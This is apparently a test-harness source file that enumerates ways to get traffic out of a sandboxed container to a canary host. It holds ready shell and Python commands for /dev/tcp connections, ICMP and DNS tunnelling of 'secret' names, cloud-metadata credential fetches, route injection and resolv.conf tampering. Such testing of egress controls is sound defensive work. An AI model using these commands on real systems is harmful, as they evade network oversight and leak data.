/** Ways past the door: straight out by any protocol, and questions for names. */
import type { Attempt } from './attempt.ts';

export function straightOut(host: string, port: number): Attempt[] {
  const at = `${host}:${port}`;
  return [
    {
      name: 'TCP to the canary',
      reason: 'a program that heeds no proxy',
      command: `tcp ${host} ${port} 'out'`,
    },
    {
      name: 'TCP by the shell itself',
      reason: 'no program is needed',
      command: `(exec 3<>/dev/tcp/${host}/${port} && echo out >&3 && timeout 3 cat <&3) 2>&1; true`,
    },
    { name: 'HTTP without the proxy', reason: '--noproxy', command: `get http://${at}/` },
    { name: 'UDP to the canary', reason: 'no connection, no handshake', command: `udp ${host} ${port} out` },
    {
      name: 'QUIC to the canary',
      reason: 'HTTP/3 heeds no proxy',
      command: `udp ${host} ${port} "$(printf '\\300\\001')"`,
    },
    {
      name: 'IPv6, mapped',
      reason: 'the same address in another family',
      command: `tcp ::ffff:${host} ${port} out; udp ::ffff:${host} ${port} out`,
    },
    { name: 'IPv6, loopback', reason: 'this machine', command: `tcp ::1 ${port} out; udp ::1 ${port} out` },
    {
      name: 'IPv6, link-local',
      reason: 'needs no address of its own',
      command: `for i in $(ls /sys/class/net 2>/dev/null || echo lo eth0); do tcp fe80::1%$i ${port} out; udp ff02::1%$i ${port} out; done`,
    },
    {
      name: 'to everybody',
      reason: 'broadcast and multicast need no route',
      command: `udp 255.255.255.255 ${port} out; udp 224.0.0.251 ${port} out`,
    },
    {
      name: 'ICMP',
      reason: 'an echo holds what one writes into it',
      command: `python3 -c '
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        made = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        made.settimeout(2)
        made.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ("${host}", 0))
        print("${'the-canary'}-has-answered", made.recv(99))
    except OSError as error: print(error)'`,
    },
    {
      name: 'metadata of a cloud',
      reason: 'link-local, and full of keys',
      command:
        'get http://169.254.169.254/latest/meta-data/; by_door http://169.254.169.254/latest/meta-data/; get http://[fd00:ec2::254]/',
    },
    {
      name: 'the gateway of his own network',
      reason: 'this machine has an address on each bridge',
      command: `for net in $(awk '{print $4}' /proc/net/fib_trie 2>/dev/null | grep -oE '^[0-9]+\\.[0-9]+\\.[0-9]+' | sort -u; hostname -I 2>/dev/null | grep -oE '[0-9]+\\.[0-9]+\\.[0-9]+'); do tcp $net.1 ${port} out; udp $net.1 ${port} out; done; echo tried`,
    },
    {
      name: 'a route of his own',
      reason: 'with a route there would be a way',
      // RTM_NEWROUTE (rtnetlink(7)), as `ip route add default via` sends it; ip itself is not in every image.
      command: `python3 -c '
import os, socket, struct
try:
    link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    route = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)
    gateway = struct.pack("HH4s", 8, 5, socket.inet_aton("${host}"))
    link.send(struct.pack("IHHII", 16 + len(route + gateway), 24, 0x605, 1, 0) + route + gateway)
    code = struct.unpack("i", link.recv(4096)[16:20])[0]
    print("the kernel says", os.strerror(-code) if code else "made")
except OSError as error: print(error)'; get http://${at}/`,
    },
    {
      name: 'a bound source address',
      reason: 'as if it came from elsewhere',
      command: `get --interface 127.0.0.1 http://${at}/`,
    },
    {
      name: 'vsock',
      reason: 'a virtual machine talks to its host by it',
      command: `python3 -c '
import socket
try:
    made = socket.socket(40, socket.SOCK_STREAM); made.settimeout(2); made.connect((2, ${port})); print("${'the-canary'}-has-answered")
except OSError as error: print(error)'`,
    },
  ];
}

export function names(host: string, port: number): Attempt[] {
  const query = `"$(printf '\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3org\\0\\0\\20\\0\\1' | tr '\\0' '_')"`;
  const found = (ask: string): string =>
    `python3 -c '
import socket
try: print("FOUND", ${ask})
except OSError as error: print(type(error).__name__, error)'`;
  return [
    {
      name: 'DNS: the C library',
      reason: 'a question for a name leaves, whatever the answer',
      command: 'getent hosts secret-0123.example.org && echo FOUND; echo asked',
    },
    {
      name: 'DNS: an allowed name',
      reason: 'what the door may look up he need not',
      command: found('socket.getaddrinfo("host.docker.internal", 80)'),
    },
    {
      name: "DNS: a resolver at the canary's port",
      reason: 'whoever asks by himself heeds no resolv.conf',
      command: `udp ${host} ${port} ${query}`,
    },
    {
      name: 'DNS: a public resolver',
      reason: 'port 53 is open in many networks',
      command: `for server in 192.0.2.53 198.51.100.53 2001:db8::53; do udp $server 53 ${query}; done`,
    },
    {
      name: 'DNS: over TCP',
      reason: 'the same by another protocol',
      command: `tcp 192.0.2.53 53 out; tcp ${host} ${port} out`,
    },
    {
      name: 'DNS: over HTTPS',
      reason: 'a question in a request',
      command: `by_door 'https://${host}:${port}/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'`,
    },
    {
      name: "DNS: the engine's own resolver, TXT",
      reason: "Docker's resolver hands on what it does not know",
      form: 'containers',
      command: `udp 127.0.0.11 53 ${query}`,
    },
    {
      name: 'DNS: a resolver that he names himself',
      reason: 'resolv.conf and its environment',
      command: `(echo nameserver ${host} > /etc/resolv.conf) 2>&1; LOCALDOMAIN=example.org RES_OPTIONS=ndots:9 getent hosts secret-0123 && echo FOUND; true`,
    },
    { name: 'multicast DNS', reason: 'asks everybody near', command: `udp 224.0.0.251 5353 ${query}` },
  ];
}
